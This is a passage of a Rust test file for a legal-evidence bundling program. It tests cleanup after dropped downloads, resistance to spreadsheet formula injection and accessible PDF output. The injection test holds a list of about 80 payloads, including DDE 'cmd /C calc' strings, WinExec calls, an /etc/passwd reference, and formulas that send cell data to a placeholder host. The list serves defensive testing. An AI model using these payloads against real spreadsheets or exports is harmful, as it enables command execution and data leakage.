    ensure!(!left.iter().any(|name| name.ends_with(".part")), "{left:?}");
    Ok(())
}

/// A reader who goes away in the middle harms nobody: the next has a bundle.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reader_who_goes_away_leaves_nothing() -> Result<()> {
    let (program, _mirror) = scored()?;
    let server = Server::start_with(Some(&program.data()), &[])?;
    let host = server.address().trim_start_matches("http://").to_owned();
    for _ in 0..10 {
        let mut stream = std::net::TcpStream::connect(&host)?;
        stream.write_all(format!("GET /jurisdictions/CAN/evidence.zip HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes())?;
        let _ = stream.shutdown(std::net::Shutdown::Both);
    }
    let answer = server.get("/jurisdictions/CAN/evidence.zip").await?;
    ensure!(answer.status == 200 && verdict(&answer.bytes).holds());
    let left: Vec<String> =
        fs::read_dir(program.data())?.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    ensure!(!left.iter().any(|name| name.contains("part") || name.ends_with(".zip")), "{left:?}");
    Ok(())
}

/// Texts that a spreadsheet may run, in the widths, scripts and wrappings that people try.
fn payloads() -> Vec<String> {
    let mut all: Vec<String> = [
        "=1+1",
        "=1+1;",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=SUM(A1:A9)",
        "=HYPERLINK(\"http://a.example/?x=\"&A1,\"ok\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=WEBSERVICE(\"http://a.example/\"&A1)",
        "=IMPORTXML(CONCAT(\"http://a.example/?\",A1),\"//a\")",
        "=IMPORTFEED(\"http://a.example\")",
        "=IMPORTHTML(\"http://a.example\",\"table\",1)",
        "=IMPORTRANGE(\"a\",\"b\")",
        "=IMAGE(\"http://a.example/\")",
        "=FILTERXML(\"<a/>\",\"//a\")",
        "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "=REGISTER(\"a\")",
        "=EXEC(\"calc\")",
        "='file:///etc/passwd'#$passwd.A1",
        "=2+5+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+2+3+cmd|' /C calc'!A0",
        "@A1",
        "=A1",
        "==1",
        "=-1",
        "=+1",
        "--1",
        "++1",
        "+-1",
        "-(1)",
        "=\"\"&1",
        "=,1",
        "={1;2}",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        " =1+1",
        "  \t =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "\u{202e}=1+1",
        "\u{2066}=1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{ff0d}1+1",
        "\u{ff20}SUM(1)",
        "\u{fe66}1+1",
        "\u{fe62}1+1",
        "\u{fe63}1+1",
        "\u{fe6b}SUM(1)",
        "\u{2212}1+1",
        "\"=1+1\"",
        "\"\"=1+1",
        "a;=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r=1+1",
        "a;;@SUM(1)",
        "a; =1+1",
        "a;\"=1+1\"",
        "a;-1+cmd|'/C calc'!A0",
        "|calc",
        "%0A=1+1",
        "=1+1\",=2+2,\"",
        "',=1+1",
        "\";=1+1;\"",
    ]
    .map(str::to_owned)
    .to_vec();
    all.sort();
    all.dedup();
    all
}

#[test]
fn no_text_of_others_runs_in_a_spreadsheet() -> Result<()> {
    let payloads = payloads();
    ensure!(payloads.len() >= 60, "only {} payloads", payloads.len());
    let law = |(i, title): (usize, &String)| Law {
        id: format!("can-{i}").as_str().into(),
        jurisdiction: "CAN".into(),
        kind: LawKind::Law,
        titles: vec![LawTitle { language: "en".to_owned(), title: title.clone() }],
        citation: title.clone(),
        topics: vec![Topic::ALL[0]],
        instrument: None,
        dates: vec![LawDate {
            kind: DateKind::Assent,
            date: jiff::civil::date(2001, 2, 3),
            precision: DatePrecision::Day,
            computed_by: None,
            provenance: Provenance { snapshot: "00".repeat(32).as_str().into(), locator: title.clone() },
        }],
        url: Some(title.clone()),
        sources: Vec::new(),
        versions: Vec::new(),
        status: Default::default(),
        sections: Vec::new(),
        amendments: Vec::new(),
        notes: Vec::new(),
        provisions: Vec::new(),
    };
    let facts = FactSet { laws: payloads.iter().enumerate().map(law).collect(), ..FactSet::default() };
    let secret = Secret::new([9; 32]);
    let (merkle_root, n) = Edition::compute_root(&facts, &secret)?;
    let head = EditionHead::first(merkle_root, n);
    let jurisdictions = places::all().to_vec();
    let index = EditionIndex::new(Edition { jurisdictions, ..Edition::of(head, facts, secret) });
    let key = SigningKey::from_seed([1; 32]);
    let mut out = Cursor::new(Vec::new());
    let inputs = Inputs {
        index: &index,
        tree: &Edition::tree(&index.edition.facts, &index.edition.secret)?,
        selection: &Selection { jurisdiction: "CAN".into(), topic: None, redaction: Redaction::default() },
        originals: &mut std::io::empty(),
        archived: &Default::default(),
        key: &key,
        attestation: &Attestation::sign(index.head(), &key)?,
        stamp: None,
        keys: &KeyHistory::new(&key, jiff::Timestamp::UNIX_EPOCH),
        typeset: None,
        now: jiff::Timestamp::UNIX_EPOCH,
    };
    write(inputs, &mut out)?;
    let folder = tempfile::tempdir()?;
    ZipArchive::new(&mut out)?.extract(folder.path())?;
    let bag = fs::read_dir(folder.path())?.next().context("no bag")??.path();
    fs::write(bag.join("payloads.json"), serde_json::to_vec(&payloads)?)?;
    if let Some((inert, said)) = python("payloads.py", &bag)? {
        println!("measured: {} payloads; {said}", payloads.len());
        ensure!(inert, "{said}");
    }
    Ok(())
}

/// The typesetter beside the program; a bundle has no PDF without it.
fn typesetter(program: &Program) -> Option<PathBuf> {
    let file = program.file().with_file_name(format!("lexgap-dossier{}", std::env::consts::EXE_SUFFIX));
    if !file.is_file() {
        println!("skipped: no typesetter at {}; `cargo xtask build` makes it", file.display());
        return None;
    }
    Some(file)
}

fn set(typesetter: &Path, dossier: &serde_json::Value) -> Result<Vec<u8>> {
    let mut input = tempfile::tempfile()?;
    std::io::Write::write_all(&mut input, &serde_json::to_vec(dossier)?)?;
    std::io::Seek::rewind(&mut input)?;
    let output = Command::new(typesetter).stdin(input).output()?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Ok(output.stdout)
}

/// What a program of poppler says of a PDF; `None` where it is not here.
fn poppler(name: &str, arguments: &[&str], pdf: &Path, last: &[&str]) -> Result<Option<String>> {
    match Command::new(name).args(arguments).arg(pdf).args(last).output() {
        Err(e) => {
            println!("skipped: no {name} ({e})");
            Ok(None)
        }
        Ok(output) => {
            ensure!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
            Ok(Some(String::from_utf8_lossy(&output.stdout).into_owned()))
        }
    }
}

#[test]
fn a_dossier_is_set_as_accessible_pdf() -> Result<()> {
    let program = Program::new()?;
    let Some(typesetter) = typesetter(&program) else { return Ok(()) };
    let long = format!("https://a.example/{}", "0123456789abcdef".repeat(12));
    let rows: Vec<[String; 3]> =
        (0..120).map(|i| [format!("Row {i}"), format!("{}.5", 4_000 + i), long.clone()]).collect();
    let dossier = serde_json::json!({
        "title": "The gap between law and practice: Tests", "lead": "Made for a test.", "date": "2026-11-25",
        "sections": [{ "heading": "What is claimed", "blocks": [
            { "numbered": ["#panic(\"markup\") *not bold* $x$ [a] \\ @b", "Loi du 5 août 2013; Закон; Νόμος; Đạo luật; Yasası"] },
            { "paragraph": "قانون مكافحة الاتجار; 人身売買; मानव; 😀" },
            { "bullets": ["one", ""] },
            { "table": { "caption": "Counts", "head": ["Count", "Figure", "Original and place"], "rows": rows } },
        ] }],
    });
    let pdf = set(&typesetter, &dossier)?;
    ensure!(pdf == set(&typesetter, &dossier)?, "the same text gives other bytes");
    let file = program.folder().join("dossier.pdf");
    fs::write(&file, &pdf)?;
    if let Some(text) = poppler("pdftotext", &["-layout"], &file, &["-"])? {
        for words in
            ["4000.5", "4119.5", "#panic(", "*not bold*", "août", "Закон", "Νόμος", "see dossier.html", "no font for"]
        {
            ensure!(text.contains(words), "no `{words}` in the PDF: {text}");
        }
    }
    if let Some(structure) = poppler("pdfinfo", &["-struct"], &file, &[])? {
        let tagged =
            |tag: &str| structure.lines().filter(|l| l.trim_start().split([' ', ':']).next() == Some(tag)).count();
        for part in ["Table", "TD", "Caption", "H1", "L", "LI"] {
            ensure!(tagged(part) > 0, "no {part} in {structure}");
        }
        // Of three columns, and of 120 rows.
        ensure!(tagged("TH") == 3 + 120, "{} headers", tagged("TH"));
    }
    for bad in [serde_json::json!({}), serde_json::json!({ "title": "", "lead": "", "date": "x", "sections": [] })] {
        ensure!(set(&typesetter, &bad).is_err(), "{bad} is set");
    }
    Ok(())
}
